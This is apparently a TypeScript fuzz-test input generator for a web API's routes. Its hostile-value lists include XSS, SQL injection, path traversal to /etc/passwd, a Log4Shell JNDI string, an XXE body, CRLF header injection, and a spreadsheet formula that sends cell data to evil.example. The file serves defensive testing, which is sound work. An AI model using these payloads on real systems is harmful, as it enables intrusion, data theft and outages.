// Input generation for the fuzz and security tests, driven by each route's own JSON schema: a plausible
// value for every field (so that a request gets past the fields we are not attacking), and the hostile
// values we put in one field at a time. Deterministic: the same run sends the same requests.

type Schema = Record<string, any>;

/** Strings that break parsers, databases, spreadsheets and HTML, or are just too much. */
export const HOSTILE_STRINGS: string[] = [
  '', ' ', 'null', 'undefined', 'NaN', 'Infinity', '-Infinity', '-1', '0', '-0', '1e309', '-1e309', '99999999999999999999999',
  '0x1F', '1,2,3,4,5,6,7,8,9', '117.2,39.1,0', ',', 'true',
  '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '</textarea><svg onload=alert(1)>', '<![CDATA[x]]>',
  '\u202Eevil\u202C.exe', '\u200F\u200E名称\u2066x\u2069', 'a\u0000b', '\u0000', '\uD800', '\uDFFF\uD800', '\uFEFF', 'e\u0301\u0301\u0301',
  'x'.repeat(100_000), '中'.repeat(20_000), '😀'.repeat(5_000),
  '=HYPERLINK("http://evil.example/?"&A1,"点我")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3',
  '../../../../etc/passwd', '..\\..\\windows\\win.ini', '%00', '%E0%A4%A', '%', '%%32%65',
  "' or 1=1 --", '"; drop table service_points; --', '${jndi:ldap://x/a}', '{{7*7}}', '__proto__', 'constructor',
  '\r\nSet-Cookie: injected=1', 'line1\nline2\rline3', '\t',
  '2025-02-30', '25:99', '9999-12-31T99:99:99Z', 'FREQ=SECONDLY;INTERVAL=1;COUNT=99999999',
];

/** Non-string JSON values, for fields of any type. */
export const HOSTILE_VALUES: unknown[] = [
  null, true, false, 0, -1, 1.5, -0.000001, 1e308, -1e308, 2 ** 53 + 2, -(2 ** 63), 5e-324,
  [], {}, [1, 2, 3], [[[[[]]]]], { $ne: null }, { __proto__: { admin: true } }, { toString: 'x' },
  Array.from({ length: 10_000 }, (_, i) => i),
];

/** Coordinates outside Hexi, outside China, outside the Earth. */
export const HOSTILE_COORDINATES: unknown[] = [181, -181, 1000, 91, -91, 0, 1e-320, 360, -90, 90, 180, -180, 116.4, 121.5];

/** Request bodies that are not what any JSON route expects. */
export const BROKEN_BODIES: { label: string; contentType?: string; payload: string | Buffer }[] = [
  { label: 'truncated JSON', contentType: 'application/json', payload: '{"name": "x", ' },
  { label: 'bare NaN', contentType: 'application/json', payload: '{"lon": NaN, "lat": Infinity}' },
  { label: 'JSON null', contentType: 'application/json', payload: 'null' },
  { label: 'JSON array', contentType: 'application/json', payload: '[1,2,3]' },
  { label: 'JSON string', contentType: 'application/json', payload: '"x"' },
  { label: 'JSON number', contentType: 'application/json', payload: '1e999' },
  { label: 'empty JSON body', contentType: 'application/json', payload: '' },
  { label: 'deeply nested JSON', contentType: 'application/json', payload: '['.repeat(200_000) + ']'.repeat(200_000) },
  { label: 'deeply nested objects', contentType: 'application/json', payload: '{"a":'.repeat(50_000) + '1' + '}'.repeat(50_000) },
  { label: 'prototype pollution', contentType: 'application/json', payload: '{"__proto__": {"role": "admin"}, "constructor": {"prototype": {"x": 1}}}' },
  { label: 'BOM before JSON', contentType: 'application/json', payload: '\uFEFF{"name":"x"}' },
  { label: 'invalid UTF-8', contentType: 'application/json', payload: Buffer.from([0x7b, 0x22, 0x6e, 0x22, 0x3a, 0x22, 0xc3, 0x28, 0xff, 0xfe, 0x22, 0x7d]) },
  { label: 'GBK bytes', contentType: 'application/json; charset=gbk', payload: Buffer.from([0x7b, 0x22, 0x6e, 0x22, 0x3a, 0x22, 0xd6, 0xd0, 0xce, 0xc4, 0x22, 0x7d]) },
  { label: 'UTF-16 claimed', contentType: 'application/json; charset=utf-16', payload: Buffer.from('{"name":"x"}', 'utf16le') },
  { label: 'text/plain', contentType: 'text/plain', payload: '{"name":"x"}' },
  { label: 'XML', contentType: 'application/xml', payload: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>' },
  { label: 'form encoded', contentType: 'application/x-www-form-urlencoded', payload: 'name=x&lon=117.2' },
  { label: 'multipart without boundary', contentType: 'multipart/form-data', payload: '--x\r\n\r\n' },
  { label: 'multipart garbage', contentType: 'multipart/form-data; boundary=zz', payload: '--zz\r\nContent-Disposition: form-data; name="file"; filename="../../a.csv"\r\n\r\n=1+1\r\n--zz' },
  { label: 'unknown content type', contentType: 'application/x-made-up', payload: 'x' },
  { label: 'content type with junk parameters', contentType: 'application/json; charset=utf-8; boundary=;;;', payload: '{}' },
  { label: 'no content type', payload: '{"name":"x"}' },
  { label: 'body over the 1 MB limit', contentType: 'application/json', payload: JSON.stringify({ name: 'x'.repeat(2 * 1024 * 1024) }) },
];

const today = new Date().toISOString().slice(0, 10);

/** Plausible values for strings, tried against a field's pattern when it has one. */
function candidateStrings(ids: Record<string, string>): string[] {
  return [ids.street, ids.category, 'standard', today, '09:00', '09:00:00', 'elder_care', 'FREQ=WEEKLY;BYDAY=MO', 'x', 'zh'];
}

function stringFor(schema: Schema, name: string, ids: Record<string, string>): string {
  const n = name.toLowerCase();
  let value: string;
  if (schema.pattern) {
    const re = new RegExp(schema.pattern, 'u');
    value = candidateStrings(ids).find((c) => re.test(c)) ?? 'x';
  } else if (/street/.test(n)) value = ids.street;
  else if (/category/.test(n)) value = ids.category;
  else if (/profile/.test(n)) value = 'standard';
  else if (/topic/.test(n)) value = ids.topic ?? 'other';
  else if (/service/.test(n)) value = ids.service ?? 'x';
  else if (n === 'from' || n === 'to') value = `${ids.lon},${ids.lat}`;
  else if (/_at$|datetime/.test(n) || schema.format === 'date-time') value = new Date(Date.now() - 600_000).toISOString();
  else if (/date|^until$|^day$/.test(n) || schema.format === 'date') value = today;
  else if (/time/.test(n)) value = '09:00';
  else if (/password/.test(n)) value = 'fuzz-password-long-enough';
  else if (/username/.test(n)) value = 'fuzz_user';
  else if (/phone/.test(n)) value = '022-23456789';
  else if (/rrule/.test(n)) value = 'FREQ=WEEKLY;BYDAY=MO';
  else if (/minutes/.test(n)) value = '5,10,15';
  else if (/lang/.test(n)) value = 'zh';
  else value = '模糊测试';
  if (schema.minLength && value.length < schema.minLength) value = value.padEnd(schema.minLength, 'x');
  if (schema.maxLength && value.length > schema.maxLength) value = value.slice(0, schema.maxLength);
  return value;
}

function numberFor(schema: Schema, name: string, ids: Record<string, string>): number {
  const n = name.toLowerCase();
  let value: number;
  if (n === 'lon' || n.endsWith('_lon')) value = Number(ids.lon);
  else if (n === 'lat' || n.endsWith('_lat')) value = Number(ids.lat);
  else if (n === 'compound_id') value = Number(ids.compound);
  else if (n === 'site_id' || n === 'site') value = Number(ids.site);
  else if (n === 'gate_id') value = Number(ids.gate);
  else if (n === 'visit' || n === 'visit_id') value = Number(ids.visit);
  else if (n === 'audit_id') value = 1;
  else value = schema.minimum ?? schema.exclusiveMinimum ?? 1;
  if (schema.maximum !== undefined && value > schema.maximum) value = schema.maximum;
  if (schema.minimum !== undefined && value < schema.minimum) value = schema.minimum;
  return schema.type === 'integer' ? Math.round(value) : value;
}

/** A plausible valid value for a schema: required properties only, real ids, places inside Hexi. */
export function baseValue(schema: Schema | undefined, name: string, ids: Record<string, string>, depth = 0): unknown {
  if (!schema || typeof schema !== 'object' || depth > 6) return 'x';
  if ('const' in schema) return schema.const;
  if (schema.default !== undefined) return schema.default;
  if (Array.isArray(schema.enum)) return schema.enum[0];
  if (Array.isArray(schema.anyOf) || Array.isArray(schema.oneOf)) {
    const options: Schema[] = schema.anyOf ?? schema.oneOf;
    const pick = options.find((o) => o.type !== 'null') ?? options[0];
    return baseValue(pick, name, ids, depth + 1);
  }
  if (Array.isArray(schema.allOf)) {
    return Object.assign({}, ...schema.allOf.map((part: Schema) => baseValue(part, name, ids, depth + 1)));
  }
  const type = Array.isArray(schema.type) ? schema.type.find((t: string) => t !== 'null') : schema.type;
  switch (type) {
    case 'object': {
      const out: Record<string, unknown> = {};
      for (const key of schema.required ?? []) out[key] = baseValue(schema.properties?.[key], key, ids, depth + 1);
      // A street is optional in many bodies but required for the district admin, who has none of their own.
      for (const key of ['street_code']) if (schema.properties?.[key] && !(key in out)) out[key] = ids.street;
      return out;
    }
    case 'array': {
      const count = Math.max(schema.minItems ?? 0, 0);
      return Array.from({ length: count }, () => baseValue(schema.items, name, ids, depth + 1));
    }
    case 'string': return stringFor(schema, name, ids);
    case 'integer': case 'number': return numberFor(schema, name, ids);
    case 'boolean': return true;
    case 'null': return null;
    default: return 'x';
  }
}

export interface BodyCase { label: string; field?: string; body: unknown }

/** One hostile value in one field at a time, plus missing and unknown fields, one level into nested objects. */
export function bodyCases(schema: Schema, ids: Record<string, string>): BodyCase[] {
  const base = baseValue(schema, 'body', ids) as Record<string, unknown>;
  const cases: BodyCase[] = [{ label: 'plausible body', body: base }];
  const objectSchema = schema.type === 'object' ? schema : (schema.allOf ?? []).find((s: Schema) => s.type === 'object');
  if (!objectSchema?.properties || typeof base !== 'object' || base === null || Array.isArray(base)) return cases;
  cases.push({ label: 'unknown field', field: 'is_admin', body: { ...base, is_admin: true } });
  for (const [key, prop] of Object.entries<Schema>(objectSchema.properties)) {
    const coordinate = /^(lon|lat)$|_(lon|lat)$/.test(key);
    const values = [...HOSTILE_VALUES, ...HOSTILE_STRINGS, ...(coordinate ? HOSTILE_COORDINATES : [])];
    for (const value of values) cases.push({ label: `${key} = ${preview(value)}`, field: key, body: { ...base, [key]: value } });
    if ((objectSchema.required ?? []).includes(key)) {
      const { [key]: _dropped, ...rest } = base;
      cases.push({ label: `${key} missing`, field: key, body: rest });
    }
    // One level down: arrays of objects (a batch of visits, candidate places) and nested objects.
    const inner = prop.type === 'array' ? prop.items : prop.type === 'object' ? prop : undefined;
    if (inner?.type === 'object' && inner.properties) {
      const innerBase = baseValue(inner, key, ids) as Record<string, unknown>;
      for (const [innerKey] of Object.entries<Schema>(inner.properties)) {
        for (const value of [null, -1, 1e308, '', '<script>alert(1)</script>', 'x'.repeat(100_000), [], {}, ...(/lon|lat/.test(innerKey) ? [1000, -91] : [])]) {
          const nested = { ...innerBase, [innerKey]: value };
          cases.push({ label: `${key}[].${innerKey} = ${preview(value)}`, field: key, body: { ...base, [key]: prop.type === 'array' ? [nested] : nested } });
        }
      }
      if (prop.type === 'array') {
        cases.push({ label: `${key}: 100,000 items`, field: key, body: { ...base, [key]: Array.from({ length: 100_000 }, () => innerBase) } });
      }
    }
  }
  return cases;
}

export interface QueryCase { label: string; field?: string; query: string }

/** Query strings: each declared parameter set to each hostile string (others absent), repeated, and unknown ones. */
export function queryCases(schema: Schema | undefined, ids: Record<string, string>): QueryCase[] {
  const cases: QueryCase[] = [{ label: 'unknown parameter', field: 'zz', query: 'zz=1' }, { label: 'junk query', query: '&&==&%zz' }];
  const props = schema?.properties ?? {};
  const base = (baseValue(schema, 'query', ids) ?? {}) as Record<string, unknown>;
  const encode = (o: Record<string, unknown>) => Object.entries(o).map(([k, v]) => `${percent(k)}=${percent(String(v))}`).join('&');
  for (const key of Object.keys(props)) {
    for (const value of [...HOSTILE_STRINGS, ...HOSTILE_COORDINATES.map(String), '117.2, 39.1', '[]', '{}']) {
      cases.push({ label: `${key} = ${preview(value)}`, field: key, query: encode({ ...base, [key]: value }) });
    }
    cases.push({ label: `${key} repeated`, field: key, query: `${encode(base)}&${key}=1&${key}=2&${key}=3` });
    cases.push({ label: `${key} raw broken escape`, field: key, query: `${key}=%E0%A4%A&${encode(base)}` });
  }
  return cases;
}

/** Percent-encodes the UTF-8 bytes of any string (encodeURIComponent throws on a lone surrogate). */
export function percent(text: string): string {
  return [...Buffer.from(text, 'utf8')].map((b) => (/[A-Za-z0-9\-_.~]/.test(String.fromCharCode(b)) ? String.fromCharCode(b) : `%${b.toString(16).toUpperCase().padStart(2, '0')}`)).join('');
}

/** Values for one path parameter, URL-encoded. */
export const PATH_VALUES: string[] = [
  '0', '-1', '1.5', '1e3', '2147483648', '99999999999999999999', 'NaN', 'Infinity', 'abc', '%00', '%E0%A4%A', '..%2F..%2Fetc%2Fpasswd',
  encodeURIComponent('<script>alert(1)</script>'), encodeURIComponent('\u202Eevil'), 'x'.repeat(5000), '%20', '0x10', "1'%20or%20'1'='1",
];

export function preview(value: unknown): string {
  let text: string;
  try { text = typeof value === 'string' ? JSON.stringify(value) : JSON.stringify(value) ?? String(value); } catch { text = String(value); }
  return text.length > 40 ? `${text.slice(0, 37)}…(${text.length})` : text;
}
